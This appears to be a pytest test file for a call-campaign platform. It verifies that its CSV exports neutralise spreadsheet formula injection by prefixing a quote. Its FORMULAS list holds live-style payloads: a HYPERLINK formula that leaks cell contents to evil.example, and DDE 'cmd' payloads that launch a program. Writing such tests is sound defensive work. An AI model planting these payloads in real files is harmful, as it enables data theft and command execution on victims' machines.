"""CSV injection: every export (campaign results, do-not-call lists, billing history) writes a
cell that a spreadsheet would run as a formula with a single quote before it (OWASP's rule),
through the one writer in kit/csv_export; plain numbers and ordinary text stay as they are."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi import FastAPI
from sqlalchemy import update

from callwright.analysis import Analysis, ExtractedField
from callwright.kit.csv_export import CsvExport, neutralise
from callwright.models import Call, CampaignContact, DoNotCall, LedgerEntry
from tests.factories import queued_call, signed_in

#: What an attacker writes where the exports carry others' text.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_a_formula_gets_a_quote_and_plain_values_stay() -> None:
    for formula in FORMULAS:
        assert neutralise(formula) == "'" + formula
    for plain in ("", "Ann", "3 pm", "-12.50", "+15551230000", "42", "0.49", "a=b", "'quoted"):
        assert neutralise(plain) == plain
    assert neutralise(None) == ""
    assert neutralise(-3) == "-3"
    assert neutralise("-1e5") == "'-1e5"  # not a plain decimal: a spreadsheet may compute it
    export = CsvExport()
    export.row(["a,b", '=1+"x"'])
    assert export.size() > 0
    assert _rows(export.take()) == [["a,b", '\'=1+"x"']]
    assert export.take() == ""


@pytest.mark.asyncio
async def test_the_campaign_results_export_neutralises_variables_and_extracted_fields(
    app: FastAPI,
) -> None:
    client, user = await signed_in(app, "csv-campaign@example.com", balance_cents=10_000)
    async with client:
        agent = await client.api(
            "POST",
            "agents",
            json={
                "name": "Reminder",
                "prompt": "You are Sam, confirming {{name}}'s cleaning.",
                "voice": "joe",
                "max_duration": 2,
                "analysis_schema": [{"name": "answer", "type": "string"}],
            },
        )
        assert agent.status_code == 201, agent.text
        created = await client.api(
            "POST", "campaigns", json={"name": "Cleanings", "agent_id": agent.json()["data"]["id"]}
        )
        cid = created.json()["data"]["id"]
        payload = io.StringIO()
        csv.writer(payload).writerows(
            [["phone", "name", "@note"], ["+12125550123", FORMULAS[0], "-5"]]
        )
        files = {"file": ("contacts.csv", payload.getvalue().encode(), "text/csv")}
        loaded = await client.api("POST", f"campaigns/{cid}/contacts", files=files)
        assert loaded.status_code == 200, loaded.text
        assert loaded.json()["data"]["accepted"] == 1
        # The callee's own words, extracted after the call.
        call = await queued_call(app, user.id)
        analysis = Analysis(
            "s", "completed", "neutral", fields={"answer": ExtractedField(FORMULAS[3], 1)}
        )
        async with app.state.db.sessionmaker() as session:
            await session.execute(
                update(Call).where(Call.id == call.id).values(analysis=analysis.to_json())
            )
            await session.execute(
                update(CampaignContact)
                .where(CampaignContact.campaign_id == cid)
                .values(last_call_id=call.id)
            )
            await session.commit()
        exported = await client.api("GET", f"campaigns/{cid}/export")
        assert exported.status_code == 200
        header, row = _rows(exported.text)
        cells = dict(zip(header, row, strict=True))
        assert cells["name"] == "'" + FORMULAS[0]
        assert cells["answer"] == "'" + FORMULAS[3]
        assert cells["phone_number"] == "+12125550123"
        assert cells["note"] == "-5"  # a number stays a number


@pytest.mark.asyncio
async def test_the_do_not_call_exports_neutralise_notes_and_evidence(app: FastAPI) -> None:
    client, user = await signed_in(app, "csv-dnc@example.com")
    admin, _ = await signed_in(app, "csv-dnc-admin@example.com", role="admin")
    async with client, admin:
        added = await client.api(
            "POST", "do-not-call", json={"phone_number": "+14155550100", "note": FORMULAS[1]}
        )
        assert added.status_code in (200, 201), added.text
        listed = await admin.api(
            "POST", "admin/do-not-call", json={"phone_number": "+14155550101", "note": FORMULAS[2]}
        )
        assert listed.status_code in (200, 201), listed.text
        async with app.state.db.sessionmaker() as session:
            # The callee's own words when they asked not to be called again.
            await session.execute(
                update(DoNotCall).where(DoNotCall.user_id == user.id).values(evidence=FORMULAS[4])
            )
            await session.commit()
        mine = _rows((await client.api("GET", "do-not-call/export")).text)
        cells = dict(zip(mine[0], mine[1], strict=True))
        assert (cells["phone_number"], cells["note"], cells["evidence"]) == (
            "+14155550100",
            "'" + FORMULAS[1],
            "'" + FORMULAS[4],
        )
        everyone = _rows((await admin.api("GET", "admin/do-not-call/export")).text)
        assert dict(zip(everyone[0], everyone[1], strict=True))["note"] == "'" + FORMULAS[2]


@pytest.mark.asyncio
async def test_the_billing_history_export_neutralises_notes_and_keeps_amounts(
    app: FastAPI,
) -> None:
    client, user = await signed_in(app, "csv-billing@example.com")
    async with app.state.db.sessionmaker() as session:
        session.add(
            LedgerEntry(
                user_id=user.id,
                kind="adjustment",
                amount_cents=-150,
                balance_after_cents=-150,
                note=FORMULAS[5],
            )
        )
        await session.commit()
    async with client:
        rows = _rows((await client.api("GET", "billing/history/export")).text)
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert (cells["kind"], cells["amount"], cells["note"]) == (
        "adjustment",
        "-1.50",
        "'" + FORMULAS[5],
    )
